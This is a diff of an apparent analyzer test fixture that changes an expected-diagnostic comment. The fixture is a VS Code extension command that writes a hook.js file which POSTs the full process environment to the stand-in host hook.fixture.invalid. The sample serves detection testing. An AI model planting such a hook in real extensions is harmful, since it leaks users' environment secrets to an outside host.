@@ -5,7 +5,7 @@ const path = require('path');
 exports.start = (context, vscode) => {
   context.subscriptions.push(vscode.commands.registerCommand('untold.hook', () => {
     const dir = context.globalStorageUri.fsPath;
-    fs.writeFileSync(path.join(dir, 'hook.js'), [ // want "a program in a text of the code's asks .hook.fixture.invalid."
+    fs.writeFileSync(path.join(dir, 'hook.js'), [ // want "a program in a text of the code's, .*, asks .hook.fixture.invalid."
       "const h = require('http');",
       "h.request({ host: 'hook.fixture.invalid', path: '/p', method: 'POST' }).end(JSON.stringify(process.env));",
     ].join('\n'));
